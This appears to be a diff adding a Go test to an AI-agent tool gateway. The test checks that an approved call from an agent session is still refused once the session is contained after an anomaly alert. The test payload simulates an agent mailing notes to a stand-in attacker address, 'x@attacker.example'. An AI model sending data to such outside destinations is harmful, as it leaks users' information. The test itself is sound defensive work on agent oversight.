@@ -3,12 +3,15 @@ package gateway
 import (
 	"context"
 	"net/http"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/modelcontextprotocol/go-sdk/mcp"
 
+	"github.com/portcullis-dev/portcullis/internal/approval"
 	"github.com/portcullis-dev/portcullis/internal/audit"
 	"github.com/portcullis-dev/portcullis/internal/ops"
 	"github.com/portcullis-dev/portcullis/internal/reason"
@@ -143,5 +146,45 @@ detection:
 	resp.Body.Close()
 	if _, err := s1.CallTool(ctx, read); err != nil {
 		t.Fatalf("the released session: %v", err)
+	}
+}
+
+// TestApprovalDoesNotLiftContainment: a call held for approval whose
+// session is contained while it waits is refused even when approved (the
+// approval does not bypass the response to an alert).
+func TestApprovalDoesNotLiftContainment(t *testing.T) {
+	h := startGateway(t, strings.Replace(demoConfig, "agents:", "admins: [{name: soc}]\nagents:", 1)+`approvals: {timeout: 20s}
+tools:
+  - {name: demo__read_file, classification: [read_only]}
+detection:
+  baselines:
+    - {agent: mailer, tools: ["demo__send_message", "demo__read_file"]}
+  response:
+    - {alerts: [unexpected_tool], action: terminate_session}
+`, map[string]string{"policy.cedar": approvalPolicy + `
+permit (principal in Role::"readers", action == Action::"call_tool", resource in Upstream::"demo") when { resource.read_only_hint };
+`})
+	defer h.stop()
+	ctx := context.Background()
+	s := h.mustConnect("mailer")
+	held := make(chan error, 1)
+	go func() {
+		_, err := s.CallTool(ctx, &mcp.CallToolParams{Name: "demo__send_message", Arguments: map[string]any{"to": "x@attacker.example", "body": "notes"}})
+		held <- err
+	}()
+	r := h.waitHeld()
+	if r == nil {
+		t.Fatal("the external mail was not held")
+	}
+	// Meanwhile the session deviates: terminated.
+	_, err := s.CallTool(ctx, &mcp.CallToolParams{Name: "demo__list_files", Arguments: map[string]any{}})
+	assertDenied(t, err, reason.Contained)
+	if _, err := cli(t, h.cfg).DecideApproval(ctx, r.ID, approval.Approved, "soc", approval.ScopeOnce, "looks fine"); err != nil {
+		t.Fatal(err)
+	}
+	assertDenied(t, <-held, reason.Contained)
+	outbox := filepath.Join(h.g.dataDir, DemoDir, "outbox.jsonl")
+	if b, _ := os.ReadFile(outbox); strings.Contains(string(b), "attacker.example") {
+		t.Fatal("the approved call of a contained session was sent")
 	}
 }
